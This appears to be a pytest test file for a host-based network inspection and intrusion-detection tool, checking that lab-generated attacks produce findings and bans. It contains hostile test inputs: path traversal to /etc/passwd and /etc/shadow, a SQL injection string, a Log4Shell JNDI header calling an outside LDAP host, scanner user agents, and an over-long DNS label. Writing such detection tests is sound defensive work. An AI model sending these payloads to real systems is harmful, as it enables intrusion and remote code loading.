# SPDX-License-Identifier: GPL-3.0-or-later
"""Packets of the host's own sockets, looked into: real clients and servers, and what is found of them."""
import pytest

from lab import Lab

SERVER = """
import socket, sys
# One answer to each connection or datagram, after the port was said; what comes then is read.
kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
family = socket.AF_INET6 if ":" in address else socket.AF_INET
s = socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((address, port))
if kind == "tcp":
    s.listen(16)
print("ready", s.getsockname()[1], flush=True)
while True:
    if kind == "tcp":
        c, _ = s.accept()
        c.recv(8192)
        c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
        while c.recv(8192):
            pass
        c.close()
    else:
        data, peer = s.recvfrom(2048)
        s.sendto(data[:2] + b"\\x81\\x83" + data[4:], peer)  # the name does not exist
"""


def serve(lab, kind, address, port=0, on_host=True):
    p = lab.spawn("python3", "-S", "-E", "-c", SERVER, kind, address, port, on_host=on_host)
    return int(p.stdout.readline().split()[1])


def findings(lab, **want):
    rows = lab.cli_json("findings", "--last", "100")["findings"]
    return [f for f in rows if all(f.get(k) == v for k, v in want.items())]


def wait_finding(lab, **want):
    return lab.wait(lambda: findings(lab, **want), 10, f"a finding {want}")[0]


def inspected(lab):
    return lab.cli_json("status")["inspect"]


def client(lab, *argv):
    """A command of the host, in the watched cgroup; its end is waited for."""
    p = lab.spawn(*argv)
    p.communicate(timeout=20)
    return p.returncode


def attack(lab, port, path="/", agent="curl", target=None, *more):
    target = target or lab.host
    host = f"[{target}]" if ":" in target else target
    return lab.attack("curl", "-s", "-g", "-m", "5", "-o", "/dev/null", "-A", agent, *more, f"http://{host}:{port}{path}")


@pytest.fixture(scope="module")
def shared():
    with Lab() as lab:
        lab.start()
        yield lab


def test_an_attack_on_a_service_here_names_service_and_source(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    attack(lab, port, "/a?f=../../etc/passwd", "zgrab/0.x")
    f = wait_finding(lab, rule="web-attack")
    assert (f["subject"], f["process"], f["destination_port"], f["protocol"]) == (lab.attacker, "python3", port, "tcp")
    assert f["finding"] == "behaviour" and f["pid"] and f["title"].startswith("python3 got ../../ from ")
    assert wait_finding(lab, rule="web-scanner")["trail"] == "zgrab"


def test_the_same_over_ipv6(shared):
    lab = shared
    port = serve(lab, "tcp", "::")
    attack(lab, port, "/x?q=1%27%20or%20%271%27=%271", "curl", lab.host6, "--interface", lab.attacker6)
    assert wait_finding(lab, rule="web-attack", subject=lab.attacker6)["trail"] == "' or '1'='1"


def test_a_later_request_of_a_connection_is_looked_at_too(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    script = ("import socket, sys\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
              "for path in ['/a'] * 8 + ['/etc/shadow']:\n"
              "    s.sendall(f'GET {path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n"
              "    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n"
              "s.recv(10)\n")
    lab.attack("python3", "-c", script, lab.host, port)
    assert wait_finding(lab, rule="web-attack", destination_port=port)["trail"] == "/etc/shadow"


def test_an_attack_in_a_header_is_found(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    attack(lab, port, "/", "curl", None, "-H", "X-Api: ${jndi:ldap://198.18.0.66/a}")
    assert wait_finding(lab, rule="web-attack", destination_port=port)["trail"] == "${jndi:"


def test_what_a_process_here_asks_for_names_the_process(shared):
    lab = shared
    serve(lab, "udp", lab.gateway, 53, on_host=False)
    before = inspected(lab)["dns"]
    client(lab, "dig", "+tries=1", "+time=5", "@" + lab.gateway, "a" * 61 + ".example.test")
    f = wait_finding(lab, rule="dns-long-label")
    assert (f["process"], f["subject"], f["destination_port"], f["protocol"]) == ("dig", lab.gateway, 53, "udp")
    assert f["title"].startswith("dig asked for aaaa")
    lab.wait(lambda: inspected(lab)["dns"] >= before + 2, 5, "question and answer are read")


def test_the_same_thing_again_is_the_same_finding_with_its_sum(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    for _ in range(3):
        attack(lab, port, "/", "sqlmap/1.0")
    wait_finding(lab, rule="web-scanner", trail="sqlmap")
    seen = lab.wait(lambda: inspected(lab), 5, "status")
    assert len(findings(lab, rule="web-scanner", trail="sqlmap")) == 1
    assert seen["not_inspected"] == 0 and seen["requests"] >= 3


def test_nothing_is_looked_into_that_is_turned_off():
    with Lab(config="inspect:\n  http: false\n  tls: false\n  quic: false\n") as lab:
        lab.start()
        port = serve(lab, "tcp", "0.0.0.0")
        serve(lab, "udp", lab.gateway, 53, on_host=False)
        attack(lab, port, "/a?f=../../etc/passwd")
        client(lab, "dig", "+tries=1", "+time=5", "@" + lab.gateway, "b" * 61 + ".example.test")
        wait_finding(lab, rule="dns-long-label")  # it came later, and over the same ring
        assert inspected(lab)["requests"] == 0 and not findings(lab, rule="web-attack")


def test_who_attacks_a_service_is_banned_where_that_is_wanted():
    with Lab(config="inspect:\n  ban: true\n  ban_for: 1h\n") as lab:
        lab.start()
        assert lab.cli("arm")[0] in (0, 6)
        port = serve(lab, "tcp", "0.0.0.0")
        attack(lab, port, "/fine")
        assert lab.connect(port)[port] == "open"
        attack(lab, port, "/a?f=../../etc/passwd")
        lab.wait(lambda: lab.connect(port, timeout=0.3)[port] == "silent", 10, "the attacker is banned")
        ban = lab.cli_json("bans")["bans"][0]
        assert ban["net"].startswith(lab.attacker) and inspected(lab)["bans"] == 1
        assert lab.connect(port, source=lab.others[0])[port] == "open"
